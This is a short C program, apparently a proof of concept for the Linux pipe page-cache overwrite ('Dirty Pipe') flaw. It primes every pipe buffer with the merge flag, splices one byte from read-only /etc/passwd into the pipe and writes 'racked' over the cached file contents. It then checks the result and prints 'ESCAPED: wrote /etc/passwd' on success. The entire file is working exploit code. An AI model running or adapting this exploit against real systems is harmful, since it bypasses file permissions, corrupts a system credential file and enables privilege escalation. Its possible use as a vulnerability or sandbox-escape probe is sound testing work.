#define _GNU_SOURCE
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <sys/types.h>
#include <unistd.h>

int main(void) {
  int ends[2], file = open("/etc/passwd", O_RDONLY);
  char filler[4096] = {0}, now[8] = "";
  if (file < 0 || pipe(ends) < 0) return 1;
  int capacity = fcntl(ends[1], F_GETPIPE_SZ);
  /* Gives every slot of the pipe the flag that allows to append to its page. */
  for (int left = capacity; left > 0;) left -= (int)write(ends[1], filler, left > 4096 ? 4096 : (size_t)left);
  for (int left = capacity; left > 0;) left -= (int)read(ends[0], filler, left > 4096 ? 4096 : (size_t)left);
  loff_t at = 0;
  if (splice(file, &at, ends[1], NULL, 1, 0) == 1 && write(ends[1], "racked", 6) < 0) return 1;
  if (pread(file, now, 7, 0) == 7 && strncmp(now + 1, "racked", 6) == 0) puts("ESCAPED: wrote /etc/passwd");
  return 0;
}
